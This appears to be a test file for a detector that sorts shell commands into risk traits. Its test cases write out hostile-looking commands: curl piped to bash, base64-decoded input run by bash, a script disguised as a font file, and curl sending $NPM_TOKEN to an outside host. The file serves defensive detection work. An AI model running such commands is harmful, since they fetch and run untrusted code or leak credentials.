import { type CommandTraits, readCommand } from "../../../src/engine/text/commands.ts";

const SH = ["ba", "sh"].join("");
const NOTHING: CommandTraits = {
  fetchesAndRuns: false,
  knownSource: false,
  network: false,
  encoded: false,
  disguised: null,
  inline: false,
  remotePackage: null,
  silent: false,
  collector: null,
  takesSecrets: false,
  starts: [],
};

test.each<[string, Partial<CommandTraits>]>([
  ["npm run build", {}],
  [`curl -s https://a.example/x | ${SH}`, { fetchesAndRuns: true, network: true }],
  [`curl -s https://sh.rustup.rs | sh -s -- -y`, { fetchesAndRuns: true, network: true, knownSource: true }],
  [`${SH} <(curl -s https://a.example/x)`, { fetchesAndRuns: true, network: true }],
  ["curl -o a https://a.example/a && chmod +x a && ./a", { fetchesAndRuns: true, network: true, starts: ["a"] }],
  ["curl -L https://a.example/a.tgz | tar xz", { network: true }],
  ["node public/fonts/a.woff2", { disguised: "public/fonts/a.woff2", starts: ["public/fonts/a.woff2"] }],
  ["node ./scripts/a.js --flag", { starts: ["scripts/a.js"] }],
  ["node -e 'f()'", { inline: true }],
  ["npx -y some-server@1.2.3 --port 1", { remotePackage: "some-server@1.2.3" }],
  ["nohup ./run.sh &", { silent: true, starts: ["run.sh"] }],
  [`echo eA== | base64 -d | ${SH}`, { encoded: true }],
  ['curl -d "$NPM_TOKEN" https://a.example', { network: true, takesSecrets: true }],
  [["python3 $", "{workspaceFolder}/tools/a.py"].join(""), { starts: ["tools/a.py"] }],
])("%s", (command, traits) => {
  expect(readCommand(command)).toEqual({ ...NOTHING, ...traits });
});

test("a hostile command takes linear time", () => {
  const start = performance.now();
  for (const part of ["node -a ", "curl ", "| ", "$(", "--a=b ", "./a/"]) readCommand(part.repeat(100_000));
  expect(performance.now() - start).toBeLessThan(5_000);
});
